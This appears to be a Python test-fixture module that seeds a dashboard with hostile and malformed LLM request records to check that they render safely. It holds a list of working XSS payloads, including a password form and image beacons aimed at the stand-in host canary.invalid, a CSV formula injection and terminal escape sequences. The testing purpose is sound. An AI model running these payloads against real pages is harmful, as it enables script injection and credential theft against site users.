"""What strangers may send: scripts in every field, and content of every awkward size and shape.

Each attack calls `canary('name')` or asks the host `canary.invalid` for something. Whoever shows it must do neither.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Iterator
from typing import Any, Final

import msgspec

from proxy.records import Begin
from tests.dashboard.seed.dialects import Dialect, Message, Spoken, Talk, ToolUse, spell
from tests.dashboard.seed.fates import Exchange, exchange
from tests.dashboard.seed.shop import BY_NAME, Visit, picture, visit

KEY: Final = "hostile"
HOST: Final = "canary.invalid"
ATTACKS: Final[dict[str, str]] = {
    "script": "<script>canary('script')</script>",
    "image": "<img src=x onerror=canary('image')>",
    "remote-image": f"![beacon](https://{HOST}/pixel.png?q=secret)",
    "remote-html-image": f'<img src="https://{HOST}/html.png">',
    "svg": "<svg onload=canary('svg')><animate onbegin=canary('animate') attributeName=x dur=1s>",
    "link": "[click me](javascript:canary('link'))",
    "data-link": "[click me](data:text/html,<script>canary('data')</script>)",
    "entity-link": "[x](&#106;avascript:canary('entity'))",
    "title": '[x](https://example.com "" onmouseover=canary(\'title\') x=")',
    "iframe": f"<iframe src=\"javascript:parent.canary('iframe')\"></iframe><iframe src=https://{HOST}/frame></iframe>",
    "frame-document": "<iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\"></iframe>",
    "form": f"<form action=https://{HOST}/steal><input name=password autofocus onfocus=canary('focus')><button>log in</button></form>",
    "style": f"<style>@import 'https://{HOST}/style.css'; *{{background:url(https://{HOST}/bg)}}</style>",
    "base": f"<base href=https://{HOST}/><a href=/go>go</a>",
    "meta": f"<meta http-equiv=refresh content='0;url=https://{HOST}/meta'>",
    "object": f"<object data=https://{HOST}/object></object><embed src=https://{HOST}/embed>",
    "template": "{{constructor.constructor('canary(1)')()}} ${canary('template')} <%= canary('erb') %>",
    "attribute": "\" onmouseover=canary('attribute') autofocus onfocus=canary('attribute') x=\"",
    "closing": "</script></style></textarea></title><script>canary('closing')</script>",
    "json-closing": "</script><script>canary('boot')</script><!--",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=canary('mutation')&gt;\">",
    "clobber": "<a id=document><form name=body><input name=attributes></form><img name=getElementById>",
    "fence": "```html\n<script>canary('fence')</script>\n```\n`<img src=x onerror=canary('code')>`",
    "mathml": "<math href=\"javascript:canary('mathml')\">click</math>",
    "csv": '=HYPERLINK("https://canary.invalid/csv","open")',
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m",
}
BIDI: Final = "user\u202e\u2066// is admin\u2069 \u2066begin\u2069 \u202atxt.exe\u202c"
ZALGO: Final = "".join(
    letter + "".join(chr(0x300 + (i * 7 + n) % 0x6F) for n in range(24)) for i, letter in enumerate("zalgo comes")
)
SURROGATES: Final = r"lone \ud83d surrogate \udc00 and a null \u0000 byte"
LONG_WORD: Final = 100_000
MANY_MESSAGES: Final = 5_000
BIG_BODY: Final = 10_000_000


_DIALECTS: Final[tuple[Dialect, ...]] = ("chat", "messages", "responses", "gemini")
_MODELS: Final = {
    "chat": "<b>gpt-5-mini",
    "messages": "claude-sonnet-4-5",
    "responses": "gpt-5",
    "gemini": "gemini-2.5-flash",
}


def hostile(at_ms: int, chance: random.Random) -> Iterator[Exchange]:
    """Yield requests of one key in which everything is an attack, from `at_ms` on, one each second."""
    for number, made in enumerate([*_attacks(chance), *_awkward(chance)]):
        begin = msgspec.structs.replace(made.begin, started_at_ms=at_ms + number * 1000)
        yield made._replace(begin=begin)


def _attacks(chance: random.Random) -> Iterator[Exchange]:
    """Yield a failed request for each attack, and for each API one conversation that holds all of them."""
    for attack in ATTACKS.values():
        yield _named(_error(attack, chance), attack)
    for dialect, attack in zip(_DIALECTS, ATTACKS.values(), strict=False):
        turns = [Message("system", attack)]
        for name, text in ATTACKS.items():
            call = ToolUse("call_" + name, f"tool_{text}", json.dumps({text: text}))
            turns += [
                Message("user", f"Hello.\n\n{text}"),
                Message("assistant", f"Let me look.\n\n{text}", calls=(call,), thinking=text),
                Message("tool", text, answers=call.id),
            ]
        said = "\n\n".join(
            f"**Bold** and\n\n{text}\n\n| a | b |\n|---|---|\n| {text} | 1 |" for text in ATTACKS.values()
        )
        answer = Message("assistant", said, thinking=attack)
        is_streamed = dialect in ("chat", "messages")
        talk = Talk(dialect=dialect, model=_MODELS[dialect], messages=turns, answer=answer, is_streamed=is_streamed)
        yield _named(exchange(_visit(talk, dialect), spell(talk), chance), attack)


def _visit(talk: Talk, dialect: str = "chat") -> Visit:
    app = {"messages": "code-review", "gemini": "trip-planner"}.get(dialect, "support-bot")
    return visit(BY_NAME[app], 1_790_000_000_000, talk, user="mallory", session="s-hostile", trace_id=None, turn=1)


def _named(made: Exchange, attack: str) -> Exchange:
    fields: dict[str, Any] = {
        "user": attack,
        "session": attack,
        "environment": attack,
        "trace_id": attack,
        "tags": {"team": attack, attack: attack},
        "prompt_name": attack,
        "prompt_version": attack,
        "path": made.begin.path + "?" + attack.encode().hex()[:40] + "=" + attack,
        "headers": (*made.begin.headers, (b"x-attack", attack.encode().replace(b"\n", b" "))),
    }
    return made._replace(begin=_of_key(made.begin, **fields))


def _of_key(begin: Begin, **fields: Any) -> Begin:
    return msgspec.structs.replace(begin, key=KEY, **fields)


def _error(attack: str, chance: random.Random) -> Exchange:
    talk = Talk(dialect="chat", model="gpt-5-mini", messages=(Message("user", attack),), answer=Message("assistant"))
    body = json.dumps({"error": {"message": attack, "type": attack, "code": attack, "param": attack}}).encode()
    made = exchange(_visit(talk), spell(talk)._replace(pieces=[body]), chance)
    return made._replace(end=msgspec.structs.replace(made.end, status=400))


def _awkward(chance: random.Random) -> Iterator[Exchange]:
    for name, text in _texts().items():
        turns = (Message("user", text), Message("assistant", text), Message("user", f"{name}: {text}"))
        talk = Talk(dialect="chat", model="gpt-5-mini", messages=turns, answer=Message("assistant", text))
        yield _plain(talk, name, chance)
    yield _plain(_many_messages(), "many-messages", chance)
    yield _plain(_images(), "images", chance)
    yield _plain(_broken_tool(), "broken-tool", chance)
    for name, request, answer in _raw():
        spoken = Spoken("/chat/completions", request, [answer], 1)
        empty = Talk(dialect="chat", model="gpt-5-mini", messages=(), answer=Message("assistant"))
        made = exchange(_visit(empty), spoken, chance)
        yield made._replace(begin=_of_key(made.begin, user=name, session="s-awkward"))


def _plain(talk: Talk, name: str, chance: random.Random) -> Exchange:
    made = exchange(_visit(talk, talk.dialect), spell(talk), chance)
    return made._replace(begin=_of_key(made.begin, user=name, session="s-awkward"))


def _texts() -> dict[str, str]:
    return {
        "bidi": BIDI,
        "zalgo": ZALGO,
        "long-word": "a" * LONG_WORD,
        "many-lines": "line\n" * 20_000,
        "deep-list": "\n".join("  " * depth + "- item" for depth in range(200)),
        "deep-quote": "> " * 500 + "deep",
        "deepest-quote": "> " * 20_000 + "deep",
        "open-emphases": "_a" * 40_000,
        "wide-table": "|" + " cell |" * 400 + "\n|" + "---|" * 400 + "\n|" + " x |" * 400,
        "emoji": "👩‍👩‍👧‍👦" * 400,
        "right-to-left": "שלום עולם — مرحبا بالعالم " * 40,
        "empty": "",
        "spaces": " \t\n" * 300,
    }


def _many_messages() -> Talk:
    turns = tuple(
        Message("assistant" if number % 2 else "user", f"Message number {number} of a very long conversation.")
        for number in range(MANY_MESSAGES)
    )
    return Talk(dialect="chat", model="gpt-5-mini", messages=turns, answer=Message("assistant", "That was a lot."))


def _images() -> Talk:
    turns = tuple(Message("user", f"Picture {number}", image=picture(number)) for number in range(4))
    return Talk(
        dialect="messages", model="claude-sonnet-4-5", messages=turns, answer=Message("assistant", "Four pictures.")
    )


def _broken_tool() -> Talk:
    call = ToolUse("call_broken", "search", '{"query": "unfinished')
    answer = Message("assistant", calls=(call,))
    return Talk(
        dialect="chat", model="gpt-5-mini", messages=(Message("user", "Search."),), answer=answer, finish="tools"
    )


def _raw() -> Iterator[tuple[str, bytes, bytes]]:
    """Yield names, requests and answers that no library would send."""
    said = b'{"model":"gpt-5-mini","messages":[{"role":"user","content":"%b"}]}'
    answer = b'{"id":"x","object":"chat.completion","model":"gpt-5-mini","choices":[{"index":0,"message":{"role":"assistant","content":"%b"},"finish_reason":"stop"}],"usage":{"prompt_tokens":9,"completion_tokens":9,"total_tokens":18}}'
    yield "surrogates", said % SURROGATES.encode(), answer % SURROGATES.encode()
    yield "not-json", b'{"model":"gpt-5-mini","messages":[{"role"', b"<html>502 Bad Gateway</html>"
    yield (
        "not-text",
        b'{"model":"gpt-5-mini","messages":[{"role":"user","content":"' + bytes(range(128, 256)) + b'"}]}',
        bytes(range(256)) * 8,
    )
    yield (
        "strange-types",
        b'{"model":{"a":1},"messages":[1,null,{"role":[],"content":{"x":[[]]}},"text",{"content":3}]}',
        answer % b"ok",
    )
    yield (
        "deep-json",
        b'{"model":"gpt-5-mini","messages":[],"metadata":' + b'{"a":' * 400 + b"1" + b"}" * 400 + b"}",
        answer % b"ok",
    )
    filler = base64.b64encode(random.Random("filler").randbytes(BIG_BODY * 3 // 4 - 600))
    yield "big-body", said % filler, answer % b"That was ten megabytes."
    yield "empty-answer", said % b"Say nothing.", answer % b""
